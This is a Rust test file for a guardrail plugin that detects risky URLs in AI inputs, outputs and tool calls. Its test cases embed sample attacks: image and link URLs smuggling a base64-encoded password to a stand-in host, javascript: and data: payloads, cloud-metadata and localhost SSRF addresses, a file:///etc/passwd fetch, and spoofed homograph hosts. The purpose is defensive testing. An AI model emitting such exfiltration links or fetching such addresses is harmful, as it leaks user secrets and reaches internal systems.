use balustrade_sdk::Settings;
use balustrade_sdk::test::{detector_cases, found, request};

use super::*;

fn plugin(settings: &str) -> Urls {
    Urls::configure(settings).unwrap().0
}

fn scores(stage: &str, role: &str, text: &str) -> Vec<(String, f64)> {
    let mut request = request(&[text]);
    request.stage = stage.to_owned();
    request.texts[0].role = role.to_owned();
    let report = plugin("{}").detect(&request).unwrap();
    report.findings.into_iter().map(|finding| (finding.category, finding.score)).collect()
}

#[test]
fn the_cases_hold() {
    assert_eq!(detector_cases::<Urls>(include_str!("../cases.yaml")).map(|n| n > 35), Ok(true));
}

#[test]
fn links_matter_in_what_is_about_to_be_shown() {
    let link = "[more](https://e.example/?q=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg)";
    let is = |score| vec![("security.exfiltration".to_owned(), score)];
    assert_eq!(scores("input", "user", link), []);
    assert_eq!(scores("output", "assistant", link), is(0.7));
    let named = "https://e.example/?q=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg";
    assert_eq!(scores("output", "assistant", named), is(0.4));
    assert_eq!(
        scores("output", "assistant", "[search](https://e.example/?q=how+to+bake+good+bread)"),
        is(0.2)
    );
    assert_eq!(scores("output", "assistant", "[docs](https://e.example/a/b?page=2)"), []);
    let is_scheme = |score| vec![("security.url.scheme".to_owned(), score)];
    for link in ["[x](javascript:alert(1))", "<a href='data:text/html,<script>'>x</a>"] {
        assert_eq!(scores("output", "assistant", link), is_scheme(0.8), "{link}");
        assert_eq!(scores("retrieval", "retrieved", link), is_scheme(0.5), "{link}");
    }
    let long = format!("[x](https://e.example/?{})", "a=b&c=d1&".repeat(120));
    assert_eq!(scores("output", "assistant", &long), is(0.5));
}

#[test]
fn addresses_inside_matter_in_what_is_about_to_be_fetched() {
    for (url, score) in [
        ("http://localhost/", 0.85),
        ("http://169.254.169.254/latest", 0.95),
        ("http://0177.1/", 0.95),
        ("http://redis:6379/", 0.4),
    ] {
        let is = vec![("security.url.private-address".to_owned(), score)];
        assert_eq!(scores("tool-call", "assistant", &format!("{{\"url\": \"{url}\"}}")), is, "{url}");
    }
    for url in ["http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/", "http://１０.0.0.1/"] {
        let is =
            [("security.url.private-address".to_owned(), 0.95), ("security.url.spoofed".to_owned(), 0.6)];
        assert_eq!(scores("tool-call", "assistant", &format!("{{\"url\": \"{url}\"}}")), is, "{url}");
    }
    let is = vec![("security.url.scheme".to_owned(), 0.85)];
    assert_eq!(scores("tool-call", "assistant", "{\"url\": \"file:///etc/passwd\"}"), is);
}

#[test]
fn a_long_label_or_attribute_hides_no_image() {
    let long = "word ".repeat(300);
    let is = vec![("security.exfiltration".to_owned(), 0.9)];
    assert_eq!(scores("input", "user", &format!("![{long}](https://e.example/?d=DATA)")), is);
    assert_eq!(scores("input", "user", &format!("<img alt='{long}' src='https://e.example/?d=DATA'>")), is);
}

#[test]
fn what_is_behind_a_url_is_evidence() {
    for (text, seen) in [
        ("![a](https://e.example/?q=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg)", "my password is hunter2"),
        ("http://2130706433/", "127.0.0.1"),
        ("https://xn--pypal-4ve.com/", "pаypal.com"),
        ("http://good.com@evil.example/", "evil.example"),
    ] {
        let report = plugin("{}").detect(&request(&[text])).unwrap();
        assert_eq!(report.findings[0].evidence.as_deref(), Some(seen), "{text}");
    }
}

#[test]
fn a_lot_of_anything_is_judged() {
    let units = [
        "a",
        "=",
        ":",
        "/",
        "//",
        "(//",
        "](//",
        "](//a",
        "\"//a",
        "http://",
        "a://b[.]",
        "http://a.b/?c=d ",
        "![](http://a.b?d=",
        "<img src=",
        "<img src=//a.b ",
        "a.",
        "a.com ",
        "[a]:http://b.c ",
        "[a]: http://b.c\n![a]",
        "![",
        "data:,",
        "http://a.b/{",
        "http://x@",
        "http://xn--a.",
        "http://\u{430}.",
        "http://a.b/?%7B=",
        "[[",
        "](",
        "`http://a.b/",
        "http:\\/\\/a.b",
        "\u{301}",
    ];
    for settings in ["{}", r#"{"links": "allowed-only", "hosts_denied": ["x.com"]}"#] {
        let plugin = plugin(settings);
        for unit in units {
            for text in [
                unit.repeat((1 << 17) / unit.len()),
                format!("http://{}", unit.repeat((1 << 17) / unit.len())),
            ] {
                let report = plugin.detect(&request(&[&text])).unwrap();
                assert!(report.findings.len() <= 250, "{unit:?}: {}", report.findings.len());
            }
        }
    }
}

#[test]
fn a_text_too_full_of_urls_is_judged_in_part_and_said() {
    let report = plugin("{}").detect(&request(&[&"see http://a.example/ ".repeat(30_000)])).unwrap();
    assert_eq!(report.unjudged.iter().map(|part| part.reason.as_str()).collect::<Vec<_>>(), ["work_max"]);
}

#[test]
fn arbitrary_text_gives_spans_in_range() {
    let pool = [
        "http://",
        "![](https://",
        "<img src=\"//",
        "https://a.com/?d=",
        "http",
        "https",
        "://",
        "//",
        ":",
        "/",
        ".",
        "?",
        "=",
        "&",
        "#",
        "@",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "{",
        "}",
        "%7B",
        "%ff",
        "xn--",
        "com",
        "a",
        "Z",
        "0",
        "ä",
        "аррӏе",
        "漢",
        "😀",
        "。",
        "\u{200b}",
        " ",
        "\n",
        "javascript",
        "data",
        "<img src=",
        "url(",
        "]: ",
        "DATA",
        "\\/",
        "127.1",
        "::1",
        "-",
        "_",
        "$",
    ];
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below
    };
    let plugins = [
        plugin("{}"),
        plugin(r#"{"links": "allowed-only", "images": "allowed-only", "hosts_denied": ["a.com"]}"#),
    ];
    for _ in 0..6_000 {
        let text: String = (0..next(40)).map(|_| pool[next(pool.len())]).collect();
        let request = request(&[&text]);
        for finding in plugins.iter().flat_map(|plugin| plugin.detect(&request).unwrap().findings) {
            assert!(found(&request, &finding).is_ok_and(|under| !under.is_empty()), "{text:?}: {finding:?}");
            assert!((0.0..=1.0).contains(&finding.score));
        }
    }
}
